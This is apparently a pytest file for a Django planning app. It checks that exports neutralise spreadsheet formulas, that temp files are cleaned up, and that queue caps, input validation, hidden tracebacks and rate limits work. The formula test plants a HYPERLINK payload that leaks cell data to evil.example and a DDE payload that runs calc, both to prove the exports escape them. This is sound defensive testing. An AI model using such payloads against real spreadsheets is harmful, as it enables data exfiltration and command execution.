"""The bounds of the access policy: formula cells in every export, no temporary file left
behind, a cap on pending analyses, rate limits for anonymous visitors, short errors."""

from __future__ import annotations

import csv
import io
import tempfile
import time
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest
from django.core.cache import caches
from django.test import Client
from django.urls import reverse
from django_ratelimit import core as ratelimit_core

from accounts.permissions import SYSTEM
from lifecircle.services import runs as lifecircle_runs
from runs.models import AnalysisRun
from runs.queue import MAX_PENDING_PER_USER
from siting.services import siting_run

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _client(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def _csv_cells(body: bytes) -> list[str]:
    assert body.startswith("\ufeff".encode()), "CSV without a UTF-8 BOM"
    rows = csv.reader(io.StringIO(body.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def _xlsx_cells(body: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(body))
    out = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                out.append(cell.value)
    return out


def test_formula_cells_read_as_text_in_every_export(city):
    a1 = city["A1"]
    a1.name = EVIL
    a1.save()
    plot = city["IA"]
    plot.name = "+cmd|' /C calc'!A0"
    plot.save()
    admin = city["users"]["admin"]
    run = siting_run(user=SYSTEM, category="elderly_daycare", k=1)
    client = _client(admin)
    lc = city["lifecircle"]
    downloads = {
        "layer csv": reverse("layers:export", args=["community", "csv"]),
        "layer xlsx": reverse("layers:export", args=["community", "xlsx"]),
        "lifecircle csv": reverse("lifecircle-export", args=[lc.pk, "csv"]),
        "lifecircle xlsx": reverse("lifecircle-export", args=[lc.pk, "xlsx"]),
        "siting xlsx": reverse("siting-export", kwargs={"pk": run.pk, "fmt": "xlsx"}),
    }
    for what, url in downloads.items():
        resp = client.get(url)
        assert resp.status_code == 200, (what, resp.content[:200])
        body = b"".join(resp.streaming_content) if resp.streaming else resp.content
        cells = _csv_cells(body) if what.endswith("csv") else _xlsx_cells(body)
        texts = [c for c in cells if isinstance(c, str)]
        dangerous = [c for c in texts if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not dangerous, (what, dangerous[:5])
        if what.startswith(("layer", "lifecircle")):
            assert "'" + EVIL in texts, what
        else:
            assert "'+cmd|' /C calc'!A0" in texts, what


def _left_behind() -> set[str]:
    root = Path(tempfile.gettempdir())
    return {p.name for p in root.glob("distance-*")} | {
        p.name for p in root.glob("lifecircle-*")
    }


def test_distance_tiff_leaves_no_file_behind(city):
    before = _left_behind()
    url = reverse("lifecircle-distance-tiff", args=[city["lifecircle"].pk])
    anonymous = Client()
    for _ in range(1000):
        resp = anonymous.get(url, {"category": "kindergarten"})
        assert resp.status_code == 403
    planner = _client(city["users"]["planner_a"])
    for fmt in ("gpkg", "geojson"):
        export = reverse("lifecircle-export", args=[city["lifecircle"].pk, fmt])
        assert planner.get(export).status_code == 200
    for _ in range(5):
        resp = planner.get(url, {"category": "kindergarten"})
        assert resp.status_code == 200 and resp.content[:2] in (b"II", b"MM")
    assert planner.get(url, {"category": "nope"}).status_code == 400
    assert _left_behind() == before


def test_the_sixth_pending_analysis_of_a_user_gets_429(city):
    planner = city["users"]["planner_a"]
    for _ in range(MAX_PENDING_PER_USER):
        AnalysisRun.objects.create(
            kind="lifecircle", status=AnalysisRun.Status.PENDING, created_by=planner
        )
    count = AnalysisRun.objects.count()
    resp = _client(planner).post(
        reverse("lifecircle-runs"),
        {"district": city["a"].code},
        content_type="application/json",
    )
    assert resp.status_code == 429, resp.content[:200]
    assert resp["Retry-After"]
    assert AnalysisRun.objects.count() == count
    # another planner is not held up by them
    other = _client(city["users"]["admin"])
    resp = other.post(reverse("lifecircle-runs"), {}, content_type="application/json")
    assert resp.status_code == 202


def test_bad_analysis_input_is_refused_before_queuing(city):
    count = AnalysisRun.objects.count()
    client = _client(city["users"]["admin"])
    for url, body in (
        (reverse("lifecircle-runs"), {"ruleset": "nope"}),
        (reverse("siting-runs"), {"category": "no_such"}),
        (reverse("blocks-runs"), {"group_by": "city"}),
    ):
        resp = client.post(url, body, content_type="application/json")
        assert resp.status_code == 400, (url, resp.content[:200])
    assert AnalysisRun.objects.count() == count


def test_a_failed_run_tells_the_user_its_id_not_its_traceback(city, monkeypatch):
    def boom(*args, **kwargs):
        raise RuntimeError("secret path /srv/geoapp/internal.py line 7")

    monkeypatch.setattr(lifecircle_runs, "_store", boom)
    client = _client(city["users"]["admin"])
    resp = client.post(reverse("lifecircle-runs"), {}, content_type="application/json")
    assert resp.status_code == 202
    run = AnalysisRun.objects.get(pk=resp.json()["id"])
    assert run.status == AnalysisRun.Status.FAILED
    detail = client.get(reverse("analysis-run", args=[run.pk])).json()
    assert f"#{run.pk}" in detail["error"]
    assert "secret path" not in detail["error"] and "error_detail" not in detail
    assert "RuntimeError: secret path" in run.error_detail


def test_anonymous_visitors_are_rate_limited(city, settings, monkeypatch):
    settings.RATELIMIT_ENABLE = True
    caches["ratelimit"].clear()
    # one fixed-window minute for the whole test: 121 requests on a loaded machine can
    # straddle the window's end, where the count starts again
    now = int(time.time())
    monkeypatch.setattr(ratelimit_core, "time", SimpleNamespace(time=lambda: now))
    client = Client()
    url = reverse("public-search") + "?q=小区"
    codes = [client.get(url).status_code for _ in range(121)]
    assert codes[:120] == [200] * 120
    assert codes[120] == 429
    limited = client.get(url)
    assert limited.status_code == 429 and limited["Retry-After"]
    # each URL counts on its own: the map still draws
    assert client.get(reverse("public-districts")).status_code == 200
    caches["ratelimit"].clear()
